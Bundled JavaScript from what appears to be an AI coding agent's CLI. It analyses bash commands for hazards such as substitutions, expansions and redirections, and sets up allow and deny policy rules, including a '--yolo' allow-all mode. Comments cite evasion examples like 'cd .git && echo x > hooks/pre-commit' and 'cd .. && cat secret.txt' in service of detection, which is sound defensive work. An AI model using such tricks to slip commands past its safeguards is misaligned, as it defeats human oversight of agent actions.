/** Unquoted text: backslash escapes, globs and stray `$` or backticks are bash's to interpret. */
function addUnquoted(text, state) {
    for (let i = 0; i < text.length; i++) {
        const ch = text[i] ?? '';
        if (ch === '\\') {
            const next = text[i + 1];
            i++;
            // A backslash-newline is a line continuation: both characters disappear.
            if (next !== undefined && next !== '\n')
                state.chars.push({ ch: next, quoted: true });
            continue;
        }
        if (ch === '$' || ch === '`')
            markHere(state, 'expansion');
        // `(` and `)` inside a word only occur in extended globs such as `@(a|b)`.
        else if ('*?[()'.includes(ch))
            markHere(state, 'glob');
        state.chars.push({ ch, quoted: false });
    }
}
function addQuoted(text, state) {
    for (const ch of text)
        state.chars.push({ ch, quoted: true });
}
/**
 * Inside double quotes only `$`, backticks, `"`, `\` and newline may be escaped; an unescaped `$`
 * or backtick is an expansion whether or not the grammar made a node of it.
 */
function addDoubleQuoted(node, text, state) {
    const plainChildren = node.children.every((c) => c.type === '"' || c.type === 'string_content');
    if (!plainChildren) {
        markHere(state, 'expansion');
        return;
    }
    const inner = text.slice(1, -1);
    for (let i = 0; i < inner.length; i++) {
        const ch = inner[i] ?? '';
        if (ch === '\\') {
            const next = inner[i + 1];
            if (next !== undefined && '$`"\\\n'.includes(next)) {
                i++;
                if (next !== '\n')
                    state.chars.push({ ch: next, quoted: true });
                continue;
            }
        }
        else if (ch === '$' || ch === '`') {
            markHere(state, 'expansion');
        }
        state.chars.push({ ch, quoted: true });
    }
}
/**
 * Where a brace expansion starts: an unquoted `{`, later an unquoted `,` or `..`, then an unquoted
 * `}`. (`HEAD@{1}` and `{}` have neither and stay literal.)
 */
function braceExpansionStart(chars) {
    for (let open = 0; open < chars.length; open++) {
        if (!isUnquoted(chars[open], '{'))
            continue;
        let separator = false;
        for (let i = open + 1; i < chars.length; i++) {
            if (isUnquoted(chars[i], ',') ||
                (isUnquoted(chars[i], '.') && isUnquoted(chars[i + 1], '.'))) {
                separator = true;
            }
            else if (isUnquoted(chars[i], '}')) {
                if (separator)
                    return open;
                break;
            }
        }
    }
    return undefined;
}
function isUnquoted(c, ch) {
    return c !== undefined && !c.quoted && c.ch === ch;
}
/** The last path segment of a command name (`/usr/bin/git` → `git`). */
function commandBasename(name) {
    const slash = name.lastIndexOf('/');
    return slash < 0 ? name : name.slice(slash + 1);
}

;// CONCATENATED MODULE: ./src/policy/shell-syntax.ts

/** Words bash reads as syntax in command position; the grammar may take them for command names. */
const shell_syntax_RESERVED_WORDS = new Set([
    'if',
    'then',
    'else',
    'elif',
    'fi',
    'case',
    'esac',
    'for',
    'select',
    'while',
    'until',
    'do',
    'done',
    'in',
    'function',
    '{',
    '}',
    '[[',
    ']]',
    '!',
]);
const REDIRECT_TYPES = new Set(['file_redirect', 'heredoc_redirect', 'herestring_redirect']);
const SHORT_DETAIL = 60;
const ARITHMETIC_HAZARDS = [
    { kind: 'expansion', detail: 'arithmetic evaluation, where array subscripts can run commands' },
];
const STATEMENT_TYPES = new Set([
    'program',
    'list',
    'pipeline',
    'subshell',
    'compound_statement',
    'do_group',
    'else_clause',
    'elif_clause',
    'negated_command',
    'if_statement',
    'while_statement',
    'for_statement',
    'c_style_for_statement',
    'case_statement',
    'redirected_statement',
    'command',
    'declaration_command',
    'unset_command',
    'variable_assignment',
    'variable_assignments',
    'test_command',
    'function_definition',
]);
function isStatement(node) {
    return STATEMENT_TYPES.has(node.type) || node.type === 'ERROR';
}
/**
 * `[[ ]]` and `[ ]` evaluate operands of `-eq`, `-v` … arithmetically, where `a[$(cmd)]` runs
 * `cmd` even from a quoted string; any `$` or backtick in a test is a hazard.
 */
function testHazards(node, scope) {
    const written = shell_syntax_text(node, scope);
    return /[$`]/u.test(written)
        ? [
            {
                kind: 'expansion',
                detail: `the test \`${shell_syntax_short(written)}\`, whose operands may be evaluated as arithmetic`,
            },
        ]
        : [];
}
/** `NAME=value` in a declaration, as a word value (literal when the value is). */
function assignmentValue(node, scope) {
    const value = node.children.find((c) => c.field === 'value');
    const written = shell_syntax_text(node, scope);
    const head = value ? scope.source.slice(node.start, value.start) : written;
    const evaluated = value ? evaluateWord(value, scope.source) : undefined;
    const literal = evaluated
        ? evaluated.literal === undefined
            ? undefined
            : head + evaluated.literal
        : written;
    return {
        text: written,
        literal,
        literalPrefix: head,
        dynamism: evaluated?.dynamism ?? [],
    };
}
/** Words a redirect node holds after its target, which bash gives to the command. */
function extraRedirectWords(node) {
    if (node.type === 'file_redirect')
        return node.children.filter((c) => c.field === 'destination').slice(1);
    if (node.type === 'heredoc_redirect') {
        return node.children.flatMap((c) => c.field === 'argument' ? [c] : c.field === 'redirect' ? extraRedirectWords(c) : []);
    }
    return [];
}
/** The command's words in order; where a redirection stood between two, a single space. */
function joinSegments(segments, redirects, source) {
    let result = '';
    let previous;
    for (const segment of segments) {
        if (previous) {
            const from = previous.end;
            const to = segment.start;
            const interrupted = redirects.some((r) => r.start < to && r.end > from);
            result += interrupted ? ' ' : source.slice(from, to);
        }
        result += source.slice(segment.start, segment.end);
        previous = segment;
    }
    return result;
}
function redirectOf(operator, target, literal, duplicates) {
    const redirect = { operator, target, isDescriptorDuplication: duplicates };
    if (literal !== undefined)
        redirect.literalTarget = literal;
    return redirect;
}
/** A `$` or backtick not escaped by a backslash. */
function hasUnescapedExpansion(written) {
    for (let i = 0; i < written.length; i++) {
        const ch = written[i];
        if (ch === '\\')
            i++;
        else if (ch === '$' || ch === '`')
            return true;
    }
    return false;
}
/** The last part of a loop's header: the child before the body, separators aside. */
function loopHeaderEnd(node, body) {
    const before = node.children.filter((c) => (!body || c.end <= body.start) && c.type !== ';' && c.type !== '\n');
    return before[before.length - 1];
}
function errorPlace(root, source) {
    const stack = [root];
    for (let node = stack.pop(); node; node = stack.pop()) {
        if (node.isError || node.isMissing) {
            const near = source.slice(node.start, Math.min(node.end, node.start + 30)) ||
                source.slice(Math.max(0, node.start - 10), node.start + 10);
            return `near \`${near}\` (offset ${node.start})`;
        }
        stack.push(...[...node.children].reverse());
    }
    return '';
}
function shell_syntax_text(node, scope) {
    return scope.source.slice(node.start, node.end);
}
function shell_syntax_short(value) {
    const oneLine = value.replace(/\s+/gu, ' ');
    return oneLine.length > SHORT_DETAIL ? `${oneLine.slice(0, SHORT_DETAIL - 1)}…` : oneLine;
}
function dedupe(hazards) {
    const seen = new Set();
    return hazards.filter((h) => {
        const key = `${h.kind}\0${h.detail}`;
        if (seen.has(key))
            return false;
        seen.add(key);
        return true;
    });
}

;// CONCATENATED MODULE: ./src/policy/shell-word-scan.ts


/** Collects the hazards in a word and walks the commands inside its substitutions. */
function scanWord(node, scope, hazards, walk) {
    if (!walk.enter(node, scope)) {
        hazards.push({ kind: 'unsupported_construct', detail: 'syntax nested too deeply' });
        return;
    }
    try {
        scanWordInner(node, scope, hazards, walk);
    }
    finally {
        walk.leave();
    }
}
function scanWordInner(node, scope, hazards, walk) {
    const inner = { ...scope, depth: scope.depth + 1 };
    const written = shell_syntax_text(node, scope);
    if (!node.isNamed) {
        // A lone `$` (as in `$"…"`, a translated string) or a stray backtick.
        if (/[$`]/u.test(node.type)) {
            hazards.push({
                kind: 'expansion',
                detail: `the \`${node.type}\` in \`${shell_syntax_short(written)}\``,
            });
        }
        return;
    }
    switch (node.type) {
        case 'command_substitution':
            hazards.push({
                kind: 'command_substitution',
                detail: `the command substitution \`${shell_syntax_short(written)}\``,
            });
            walk.children(node, inner);
            return;
        case 'process_substitution':
            hazards.push({
                kind: 'process_substitution',
                detail: `the process substitution \`${shell_syntax_short(written)}\``,
            });
            walk.children(node, inner);
            return;
        case 'simple_expansion':
        case 'expansion':
        case 'arithmetic_expansion':
        case 'ansi_c_string':
        case 'translated_string':
            hazards.push({ kind: 'expansion', detail: `the expansion \`${shell_syntax_short(written)}\`` });
            // Their own `$`, `${` … tokens need no second hazard; named parts may hold substitutions.
            for (const child of node.children)
                if (child.isNamed)
                    scanWord(child, scope, hazards, walk);
            return;
        case 'word':
        case 'string_content':
        case 'heredoc_content':
        case 'heredoc_body':
        case 'number':
            if (node.children.length === 0 && hasUnescapedExpansion(written)) {
                hazards.push({
                    kind: 'expansion',
                    detail: `the \`$\` or backtick in \`${shell_syntax_short(written)}\``,
                });
            }
            break;
        case 'variable_assignment':
            // Inside a command or declaration: its name and value are words like any other.
            break;
        default:
            if (isStatement(node)) {
                walk.statement(node, scope);
                return;
            }
    }
    for (const child of node.children)
        scanWord(child, scope, hazards, walk);
}
/**
 * The redirections a redirect node stands for (a here-document may carry more), with the
 * hazards of their targets. Words after a target (`echo > f x`: bash passes `x` to `echo`) are
 * collected in `extraArgs`; statements after a here-document's start are walked.
 */
function evaluateRedirect(node, scope, extraArgs, walk) {
    const hazards = [];
    const descriptor = node.children.find((c) => c.field === 'descriptor' || c.type === 'file_descriptor');
    const prefix = descriptor ? shell_syntax_text(descriptor, scope) : '';
    const operatorNode = node.children.find((c) => !c.isNamed && /^[<>&|-]+$/u.test(c.type));
    const operator = prefix + (operatorNode?.type ?? '');
    if (node.type === 'file_redirect') {
        const destinations = node.children.filter((c) => c.field === 'destination');
        const target = destinations[0];
        extraArgs.push(...destinations.slice(1));
        for (const destination of destinations)
            scanWord(destination, scope, hazards, walk);
        const written = target ? shell_syntax_text(target, scope) : '';
        const literal = target ? evaluateWord(target, scope.source).literal : '';
        const duplicates = /^[<>]&-?$/u.test(operatorNode?.type ?? '') &&
            (target === undefined || /^(\d+|-)$/u.test(literal ?? ''));
        return [{ redirect: redirectOf(operator, written, literal, duplicates), hazards }];
    }
    if (node.type === 'herestring_redirect') {
        const word = node.children.find((c) => c.isNamed && c !== descriptor);
        if (word)
            scanWord(word, scope, hazards, walk);
        const value = word ? evaluateWord(word, scope.source).literal : '';
        return [
            { redirect: redirectOf(operator, word ? shell_syntax_text(word, scope) : '', value, false), hazards },
        ];
    }
    const start = node.children.find((c) => c.type === 'heredoc_start');
    const delimiter = start ? shell_syntax_text(start, scope) : '';
    const quoted = /["'\\]/u.test(delimiter);
    const results = [];
    for (const child of node.children) {
        if (child.type === 'heredoc_body') {
            // A quoted delimiter (`<<'EOF'`) makes the body literal text.
            if (!quoted)
                scanWord(child, scope, hazards, walk);
        }
        else if (child.field === 'redirect') {
            results.push(...evaluateRedirect(child, scope, extraArgs, walk));
        }
        else if (child.field === 'argument') {
            extraArgs.push(child);
        }
        else if (isStatement(child)) {
            // The rest of the line after `<<EOF` (`| grep x && curl y`): commands of their own.
            walk.statement(child, scope);
        }
    }
    const literalDelimiter = delimiter.replace(/\\(.)/gu, '$1').replace(/["']/gu, '');
    return [
        { redirect: redirectOf(operator, delimiter, literalDelimiter, false), hazards },
        ...results,
    ];
}

;// CONCATENATED MODULE: ./src/policy/shell-walk.ts







const MAX_SHELL_NESTING = 4;
/** Deeper syntax is refused rather than risking the call stack. */
const MAX_SYNTAX_DEPTH = 500;
class ShellWalker {
    options;
    drafts = [];
    nesting = 0;
    /** Where hazards of the source being walked go (see `parseAndWalk`). */
    sourceHazards = [];
    /** The walk as the word scanner sees it. */
    walk = {
        children: (node, scope) => {
            this.children(node, scope);
        },
        statement: (node, scope) => {
            this.statement(node, scope);
        },
        enter: (node, scope) => this.enter(node, scope),
        leave: () => {
            this.nesting--;
        },
    };
    constructor(options) {
        this.options = options;
    }
    /** Parses and walks a top-level command; returns the hazards of the whole command. */
    walkSource(source) {
        return this.parseAndWalk(source, { source, depth: 0, shellNesting: 0 });
    }
    /** The pieces found, in source order (outer before inner). */
    result() {
        return this.drafts
            .filter((draft) => !draft.dropped)
            .map(({ dropped: _dropped, ...piece }) => ({ ...piece, hazards: dedupe(piece.hazards) }));
    }
    parseAndWalk(source, scope) {
        const remaining = Math.max(0, this.options.deadline - this.options.now());
        const parsed = this.options.parser.parse(source, {
            timeoutMs: remaining,
            now: this.options.now,
        });
        if (!parsed.ok) {
            return [{ kind: 'parse_error', detail: 'a command that took too long to parse' }];
        }
        const hazards = [];
        if (parsed.hasError) {
            hazards.push({
                kind: 'parse_error',
                detail: `a syntax error ${errorPlace(parsed.root, source)}`,
            });
        }
        for (const problem of sourceProblems(parsed.root, source)) {
            hazards.push({ kind: 'parse_error', detail: problem });
        }
        // Hazards of this source found during the walk go with those above (a `bash -c` string's to
        // the shell command, the top level's to the whole command).
        const outer = this.sourceHazards;
        this.sourceHazards = hazards;
        try {
            this.statement(parsed.root, scope);
        }
        finally {
            this.sourceHazards = outer;
        }
        return hazards;
    }
    // ---- statements -------------------------------------------------------------------------
    statement(node, scope) {
        if (!this.enter(node, scope))
            return;
        try {
            this.statementInner(node, scope);
        }
        finally {
            this.nesting--;
        }
    }
    statementInner(node, scope) {
        switch (node.type) {
            case 'program':
            case 'list':
            case 'pipeline':
            case 'subshell':
            case 'do_group':
            case 'else_clause':
            case 'elif_clause':
            case 'negated_command':
            case 'if_statement':
            case 'while_statement':
                this.children(node, scope);
                return;
            case 'compound_statement':
                // `(( … ))` is arithmetic; `{ …; }` a group.
                if (node.children[0]?.type === '((') {
                    this.construct(node, node.end, scope, ARITHMETIC_HAZARDS);
                }
                else {
                    this.children(node, scope);
                }
                return;
            case 'redirected_statement':
                this.redirected(node, scope);
                return;
            case 'command':
                this.command(node, scope, []);
                return;
            case 'declaration_command':
            case 'unset_command':
                this.declaration(node, scope);
                return;
            case 'variable_assignment':
            case 'variable_assignments':
                this.construct(node, node.end, scope, [
                    {
                        kind: 'assignment_prefix',
                        detail: `the variable assignment \`${shell_syntax_short(shell_syntax_text(node, scope))}\``,
                    },
                ]);
                return;
            case 'test_command':
                this.construct(node, node.end, scope, testHazards(node, scope), node.children[0]?.type);
                return;
            case 'for_statement':
            case 'c_style_for_statement':
                this.loop(node, scope);
                return;
            case 'case_statement':
                this.caseStatement(node, scope);
                return;
            case 'function_definition':
                this.construct(node, node.end, scope, [
                    {
                        kind: 'unsupported_construct',
                        detail: `the function definition \`${shell_syntax_short(shell_syntax_text(node, scope))}\``,
                    },
                ]);
                return;
            default:
                this.construct(node, node.end, scope, [
                    {
                        kind: 'unsupported_construct',
                        detail: `\`${shell_syntax_short(shell_syntax_text(node, scope))}\`, which is not understood (${node.type})`,
                    },
                ]);
        }
    }
    /** Walks the statements among a node's children (punctuation and comments are skipped). */
    children(node, scope) {
        for (const child of node.children)
            this.child(child, scope);
    }
    child(child, scope) {
        if (!child.isNamed || child.type === 'comment')
            return;
        if (REDIRECT_TYPES.has(child.type)) {
            this.bareRedirect(child, scope);
            return;
        }
        this.statement(child, scope);
    }
    /**
     * A piece for a construct that is not a simple command (`[[ ]]`, `(( ))`, an assignment, a
     * function): kept only when it has hazards; its words are scanned and its statements walked.
     */
    construct(node, headerEnd, scope, hazards, name) {
        const draft = this.newDraft(scope, shell_syntax_text(node, scope).slice(0, headerEnd - node.start), name);
        draft.hazards.push(...hazards);
        for (const child of node.children) {
            if (!child.isNamed || child.type === 'comment')
                continue;
            const walk = child.field === 'body' || (isStatement(child) && child.type !== 'variable_assignment');
            if (walk)
                this.child(child, scope);
            else
                this.scanWord(child, scope, draft.hazards);
        }
        draft.dropped = draft.hazards.length === 0;
        return draft;
    }
    loop(node, scope) {
        const body = node.children.find((c) => c.field === 'body');
        const headerEnd = loopHeaderEnd(node, body)?.end ?? node.end;
        const keyword = node.children[0]?.type;
        const hazards = [];
        if (node.type === 'c_style_for_statement')
            hazards.push(...ARITHMETIC_HAZARDS);
        if (keyword === 'select') {
            hazards.push({
                kind: 'unsupported_construct',
                detail: '`select`, which reads choices from its input',
            });
        }
        const variable = node.children.find((c) => c.field === 'variable');
        if (variable)
            hazards.push(...variableTargetHazards('for', [shell_syntax_text(variable, scope)]));
        const draft = this.construct(node, headerEnd, scope, hazards, keyword);
        draft.args = node.children
            .filter((c) => c.field === 'value')
            .map((c) => evaluateWord(c, scope.source).literal);
    }
    caseStatement(node, scope) {
        const subject = node.children.find((c) => c.field === 'value');
        const draft = this.newDraft(scope, shell_syntax_text(node, scope).slice(0, (subject?.end ?? node.start) - node.start), 'case');
        if (subject)
            this.scanWord(subject, scope, draft.hazards);
        for (const item of node.children.filter((c) => c.type === 'case_item')) {
            for (const child of item.children) {
                if (!child.isNamed || child.type === 'comment')
                    continue;
                if (child.field === 'value' || !isStatement(child)) {
                    this.scanWord(child, scope, draft.hazards);
                }
                else {
                    this.child(child, scope);
                }
            }
        }
        draft.dropped = draft.hazards.length === 0;
    }
    declaration(node, scope) {
        const keyword = node.children[0];
        const name = keyword ? shell_syntax_text(keyword, scope) : undefined;
        const draft = this.newDraft(scope, shell_syntax_text(node, scope), name);
        const words = node.children.slice(1).filter((c) => c.isNamed && c.type !== 'comment');
        const values = [];
        for (const word of words) {
            this.scanWord(word, scope, draft.hazards);
            if (word.type === 'variable_assignment') {
                draft.hazards.push({
                    kind: 'assignment_prefix',
                    detail: `the variable assignment \`${shell_syntax_short(shell_syntax_text(word, scope))}\``,
                });
                values.push(assignmentValue(word, scope));
            }
            else {
                values.push(evaluateWord(word, scope.source));
            }
        }
        draft.args = values.map((v) => v.literal);
        if (name !== undefined)
            draft.hazards.push(...dangerousArgumentHazards(name, values));
    }
    redirected(node, scope) {
        const body = node.children.find((c) => c.field === 'body');
        const redirects = node.children.filter((c) => c !== body && REDIRECT_TYPES.has(c.type));
        if (body?.type === 'command') {
            this.command(body, scope, redirects);
            return;
        }
        const first = this.drafts.length;
        if (body)
            this.statement(body, scope);
        let produced = this.drafts.slice(first).filter((d) => !d.dropped);
        if (produced.length === 0) {
            const draft = this.newDraft(scope, body ? shell_syntax_text(body, scope) : '');
            if (!body) {
                draft.hazards.push({
                    kind: 'unsupported_construct',
                    detail: 'a redirection without a command',
                });
            }
            produced = [draft];
        }
        const extraArgs = [];
        const pending = redirects.flatMap((r) => this.redirect(r, scope, extraArgs));
        const hazards = pending.flatMap((p) => p.hazards);
        if (extraArgs.length > 0) {
            hazards.push({
                kind: 'parse_error',
                detail: `words after the redirection of a compound command (\`${shell_syntax_short(shell_syntax_text(extraArgs[0], scope))}\`)`,
            });
        }
        for (const draft of produced) {
            draft.redirects.push(...pending.map((p) => p.redirect));
            draft.hazards.push(...hazards);
        }
    }
    bareRedirect(node, scope) {
        const draft = this.newDraft(scope, '');
        draft.hazards.push({
            kind: 'unsupported_construct',
            detail: 'a redirection without a command',
        });
        const extraArgs = [];
        for (const pending of this.redirect(node, scope, extraArgs)) {
            draft.redirects.push(pending.redirect);
            draft.hazards.push(...pending.hazards);
        }
        draft.args = extraArgs.map((arg) => evaluateWord(arg, scope.source).literal);
    }
    // ---- simple commands ----------------------------------------------------------------------
    command(node, scope, outerRedirects) {
        const draft = this.newDraft(scope, '');
        const assignments = [];
        const words = [];
        const redirectNodes = [...outerRedirects];
        let nameNode;
        for (const child of node.children) {
            if (child.field === 'name')
                nameNode = child;
            else if (child.type === 'variable_assignment')
                assignments.push(child);
            else if (REDIRECT_TYPES.has(child.type))
                redirectNodes.push(child);
            else if (child.field === 'argument')
                words.push(child);
            else if (child.isNamed && child.type !== 'comment') {
                draft.hazards.push({
                    kind: 'unsupported_construct',
                    detail: `\`${shell_syntax_short(shell_syntax_text(child, scope))}\` in a command (${child.type})`,
                });
            }
        }
        const extraArgs = [];
        for (const r of redirectNodes)
            extraArgs.push(...extraRedirectWords(r));
        const argNodes = [...words, ...extraArgs].sort((a, b) => a.start - b.start);
        const segments = [...assignments, ...(nameNode ? [nameNode] : []), ...argNodes].sort((a, b) => a.start - b.start);
        draft.text = joinSegments(segments, redirectNodes, scope.source);
        for (const assignment of assignments) {
            draft.hazards.push({
                kind: 'assignment_prefix',
                detail: `the assignment prefix \`${shell_syntax_short(shell_syntax_text(assignment, scope))}\``,
            });
            this.scanWord(assignment, scope, draft.hazards);
        }
        if (nameNode)
            this.scanWord(nameNode, scope, draft.hazards);
        for (const arg of argNodes)
            this.scanWord(arg, scope, draft.hazards);
        const args = argNodes.map((arg) => evaluateWord(arg, scope.source));
        draft.args = args.map((arg) => arg.literal);
        for (const pending of redirectNodes.flatMap((r) => this.redirect(r, scope, []))) {
            draft.redirects.push(pending.redirect);
            draft.hazards.push(...pending.hazards);
        }
        const name = nameNode ? this.commandName(nameNode, scope, draft) : undefined;
        if (name === undefined)
            return;
        if (shell_syntax_RESERVED_WORDS.has(shell_syntax_text(nameNode ?? node, scope))) {
            // bash would stop with a syntax error here; the grammar read on. Their readings differ.
            this.sourceHazards.push({
                kind: 'parse_error',
                detail: `the reserved word \`${name}\` where bash expects a command`,
            });
        }
        draft.name = name;
        const program = commandBasename(name);
        const findings = programFindings({ program, args, redirects: draft.redirects });
        draft.hazards.push(...findings.hazards, ...dangerousArgumentHazards(program, args));
        draft.hazards.push(...variableTargetHazards(program, draft.args));
        const files = fileAccesses(program, args);
        if (files !== undefined)
            draft.files = files;
        if (findings.shellString !== undefined)
            this.unwrapShell(draft, findings.shellString, scope);
    }
    /** The literal command name; a hazard when it is not a plain word. */
    commandName(nameNode, scope, draft) {
        const word = nameNode.children.length === 1 ? nameNode.children[0] : undefined;
        if (word && isPlainCommandWord(word, scope.source))
            return shell_syntax_text(word, scope);
        draft.hazards.push({
            kind: 'dynamic_command_name',
            detail: `the command name \`${shell_syntax_short(shell_syntax_text(nameNode, scope))}\`, which is not a plain word`,
        });
        return word ? evaluateWord(word, scope.source).literal : undefined;
    }
    /**
     * `bash -c 'string'`: the string's commands become pieces one level deeper. When the shell
     * command itself has no hazards it is left out, and its redirections pass to the inner pieces
     * (so a rule for `git status` covers `bash -c 'git status'`, as the same bytes run).
     */
    unwrapShell(draft, shellString, scope) {
        if (scope.shellNesting >= MAX_SHELL_NESTING) {
            draft.hazards.push({
                kind: 'unsupported_construct',
                detail: `shell strings nested more than ${MAX_SHELL_NESTING} deep`,
            });
            return;
        }
        const first = this.drafts.length;
        const inner = {
            source: shellString,
            depth: scope.depth + 1,
            shellNesting: scope.shellNesting + 1,
        };
        draft.hazards.push(...this.parseAndWalk(shellString, inner));
        const produced = this.drafts.slice(first).filter((d) => !d.dropped);
        if (draft.hazards.length > 0 || produced.length === 0)
            return;
        draft.dropped = true;
        for (const piece of produced)
            piece.redirects.push(...draft.redirects);
    }
    // ---- words and redirections (shell-word-scan.ts) --------------------------------------------
    scanWord(node, scope, hazards) {
        scanWord(node, scope, hazards, this.walk);
    }
    redirect(node, scope, extraArgs) {
        return evaluateRedirect(node, scope, extraArgs, this.walk);
    }
    // ---- helpers --------------------------------------------------------------------------------
    newDraft(scope, pieceText, name) {
        const draft = {
            text: pieceText,
            args: [],
            redirects: [],
            hazards: [],
            depth: scope.depth,
            dropped: false,
        };
        if (name !== undefined)
            draft.name = name;
        this.drafts.push(draft);
        return draft;
    }
    /** Counts syntax depth; false (after recording a hazard) when it is too deep to follow. */
    enter(node, scope) {
        if (this.nesting >= MAX_SYNTAX_DEPTH) {
            const draft = this.newDraft(scope, shell_syntax_short(shell_syntax_text(node, scope)));
            draft.hazards.push({
                kind: 'unsupported_construct',
                detail: 'syntax nested too deeply to check',
            });
            return false;
        }
        this.nesting++;
        return true;
    }
}

;// CONCATENATED MODULE: ./src/policy/shell-analysis.ts
/**
 * Shell command analysis: every simple command of a command line, at any depth, with what makes
 * it more than its words (see shell-analysis-types.ts). The policy engine judges each piece.
 *
 * Fail closed: a command too long to judge, a parse that errs or takes too long, or bytes the
 * grammar may read differently from bash become hazards of the whole command; constructs the walk
 * does not know become hazards of a piece. Nothing is skipped silently.
 */


const DEFAULT_SHELL_TIMEOUT_MS = 1000;
const DEFAULT_SHELL_MAX_LENGTH = 20_000;
/** Loads the parser on first use, then analyses. */
async function analyzeShellCommand(command, options = {}) {
    const tooLong = lengthHazard(command, options);
    if (tooLong)
        return { commands: [], hazards: [tooLong] };
    const parser = await loadBashParser();
    return analyzeShellCommandSync(command, { ...options, parser });
}
/** The same analysis with a parser already loaded (`await loadBashParser()`). */
function analyzeShellCommandSync(command, options) {
    const tooLong = lengthHazard(command, options);
    if (tooLong)
        return { commands: [], hazards: [tooLong] };
    const now = options.now ?? (() => performance.now());
    const timeoutMs = options.timeoutMs ?? DEFAULT_SHELL_TIMEOUT_MS;
    const walker = new ShellWalker({ parser: options.parser, now, deadline: now() + timeoutMs });
    const hazards = walker.walkSource(command);
    const commands = walker.result();
    flagRelativePathsAfterDirectoryChange(commands);
    return { commands, hazards };
}
function lengthHazard(command, options) {
    const maxLength = options.maxLength ?? DEFAULT_SHELL_MAX_LENGTH;
    if (command.length <= maxLength)
        return undefined;
    return {
        kind: 'parse_error',
        detail: `a command of ${command.length} characters, longer than the ${maxLength} that are checked`,
    };
}
const DIRECTORY_CHANGES = new Set(['cd', 'pushd', 'popd']);
/**
 * The engine resolves a relative redirection target, and a relative file a command reads, against
 * the call's directory. After `cd` (anywhere in the command: loops run it before later
 * iterations), a relative path means something else, so `cd .git && echo x > hooks/pre-commit`
 * must not pass as a workspace write, nor `cd .. && cat secret.txt` as a workspace read.
 */
function flagRelativePathsAfterDirectoryChange(commands) {
    const change = commands.find((piece) => piece.name !== undefined && DIRECTORY_CHANGES.has(piece.name));
    if (!change)
        return;
    for (const piece of commands) {
        const relative = piece.redirects.find((r) => !r.isDescriptorDuplication &&
            !r.operator.includes('<<') &&
            !r.literalTarget?.startsWith('/'));
        if (relative) {
            piece.hazards.push({
                kind: 'unsupported_construct',
                detail: `the relative redirection \`${relative.operator} ${relative.target}\` in a command that changes directory (\`${change.text}\`)`,
            });
        }
        if (piece.files === undefined)
            continue;
        piece.files = piece.files.map((access) => {
            const written = access.path ?? access.glob;
            if (written === undefined || written.startsWith('/'))
                return access;
            return {
                text: access.text,
                purpose: access.purpose,
                unknown: `it is a relative path in a command that changes directory (\`${change.text}\`), so where it leads is only known when it runs (use a path from the workspace root and no cd)`,
            };
        });
    }
}

// EXTERNAL MODULE: ./src/tools/builtin-tools.ts + 24 modules
var builtin_tools = __webpack_require__(39271);
// EXTERNAL MODULE: ./src/tools/tool-selection.ts
var tool_selection = __webpack_require__(87146);
// EXTERNAL MODULE: ./src/commands/extensions/extension-config.ts
var extension_config = __webpack_require__(98067);
;// CONCATENATED MODULE: ./src/session-setup/policy-setup.ts









/** The label `--yolo`'s rule carries as its source. */
const YOLO_SOURCE = '--yolo';
/**
 * `--yolo`: allow every call no other rule decides. It sits below every rule (effective priority
 * 0, under the lowest tier), so `--policy` files and `--allow-command` still decide first. It is a
 * rule like any other: shell commands are still analysed sub-command by sub-command, so
 * substitutions, wrappers, non-literal names and redirections outside the workspace stay denied.
 * (The presets end in catch-all denials, which would leave nothing for this rule, so `--yolo`
 * takes the preset's place instead of being added below it.)
 */
function yoloRule() {
    return {
        id: YOLO_SOURCE,
        toolNames: ['*'],
        decision: 'allow',
        priority: 0,
        effectivePriority: 0,
        source: { file: YOLO_SOURCE, line: 1, column: 1, tier: 'default' },
    };
}
/** The label of the rule that stops commands in a workspace holding a fork's code. */
const UNTRUSTED_WORKSPACE_SOURCE = 'fork code in the workspace';
/** Denies every shell command, in the admin tier at the highest priority, so nothing overrides it. */
function untrustedWorkspaceRule() {
    const priority = 999;
    return {
        id: UNTRUSTED_WORKSPACE_SOURCE,
        toolNames: [parse_policy/* SHELL_TOOL_NAME */.Wn],
        decision: 'deny',
        priority,
        effectivePriority: policy_types/* TIER_BASE */.H.admin + priority / 1000,
        denyMessage: "The workspace holds a fork's pull request code, which must not run in this workflow: no shell commands are allowed. Read and search the files instead.",
        source: { file: UNTRUSTED_WORKSPACE_SOURCE, line: 1, column: 1, tier: 'admin' },
    };
}
async function loadCliPolicy(options) {
    const sources = [];
    const warnings = [];
    const rules = [];
    if (options.yolo) {
        rules.push(yoloRule());
        sources.push(YOLO_SOURCE);
    }
    else {
        const preset = presetForMode(options.mode);
        const loaded = await loadPreset(preset);
        rules.push(...loaded.rules);
        sources.push(...loaded.files.map((file) => describeFile(file)));
    }
    if (options.allowCommands.length > 0) {
        // In the presets' tier: above their allows and explained denials, below their hard denials.
        rules.push(...commandAllowRules(options.allowCommands, { file: '--allow-command', tier: 'default' }));
        sources.push(`--allow-command (default, ${options.allowCommands.length} rules)`);
    }
    if (options.policyFiles.length > 0) {
        const loaded = await (0,load_policy/* loadPolicyFiles */.gC)(options.policyFiles.map((path) => ({ path, tier: 'workflow' })));
        rules.push(...loaded.rules);
        sources.push(...loaded.files.map((file) => describeFile(file)));
        warnings.push(...loaded.warnings);
    }
    if (options.settings !== undefined) {
        const fromSettings = settingsRules(options.settings);
        if (fromSettings.length > 0) {
            rules.push(...fromSettings);
            sources.push(`${options.settings.source} (settings, ${fromSettings.length} rules)`);
        }
    }
    for (const extension of options.extensions ?? []) {
        const fromExtension = (0,extension_config/* extensionPolicyRules */.l9)([extension]);
        if (fromExtension.length > 0) {
            rules.push(...fromExtension);
            sources.push(`extension ${extension.name} (admin, ${fromExtension.length} rules)`);
        }
    }
    if (options.untrustedWorkspace === true) {
        rules.push(untrustedWorkspaceRule());
        sources.push(`${UNTRUSTED_WORKSPACE_SOURCE} (admin, 1 rule)`);
    }
    const engine = createPolicyEngine({
        rules,
        analyzeShell: (command) => analyzeShellCommand(command),
        toolAliases: builtin_tools/* BUILTIN_TOOL_ALIASES */.EV,
    });
    return { engine, rules: engine.rules, sources, warnings };
}
/** Priority of a trusted server's allow: with the presets' own allows, below every policy file. */
const TRUSTED_SERVER_PRIORITY = 100;
/** Priority of a `tools.exclude` command denial: above everything but a fork's hard stop. */
const EXCLUDED_COMMAND_PRIORITY = 900;
/**
 * The rules settings.json implies. A server with `trust: true` is one the maintainer lets run
 * without asking in the Gemini CLI: its tools are allowed at the presets' level, so a policy file
 * can still deny them. `run_shell_command(rm)` in `tools.exclude` denies that command in the admin
 * tier, as the CLI never runs it whatever else allows it.
 */
function settingsRules(settings) {
